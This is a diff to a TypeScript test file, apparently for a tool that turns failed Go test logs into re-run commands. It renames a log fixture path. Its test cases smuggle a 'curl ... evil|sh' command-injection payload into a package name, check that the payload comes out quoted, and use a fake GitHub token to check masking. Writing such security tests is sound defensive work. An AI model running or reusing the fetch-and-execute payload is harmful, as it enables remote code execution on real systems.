@@ -71,7 +71,7 @@ function logOf(name: string): string {
 test.each([
   [
     'a package of Go',
-    logOf('go/failed-test.log').replace('FAIL\texample.com/demo/price', `FAIL\tdemo/x;curl$\{IFS}evil|sh`),
+    logOf('go-test/failed-test.log').replace('FAIL\texample.com/demo/price', `FAIL\tdemo/x;curl$\{IFS}evil|sh`),
     [`go test -run '^TestTotal$/^discount$' 'demo/x;curl$\{IFS}evil|sh'`],
   ],
   [
@@ -111,7 +111,7 @@ test.each([
   ['is too long to be shown whole', 'x'.repeat(200)],
   ['holds a secret that is masked', `ghp_${'a1B2'.repeat(9)}`],
 ])('a command that %s is left out', (_, name) => {
-  const log = logOf('go/failed-test.log');
+  const log = logOf('go-test/failed-test.log');
   expect(commandsOf(log)).toHaveLength(1);
   expect(commandsOf(log.replace('FAIL\texample.com/demo/price', `FAIL\tdemo/${name}`))).toEqual([]);
 });
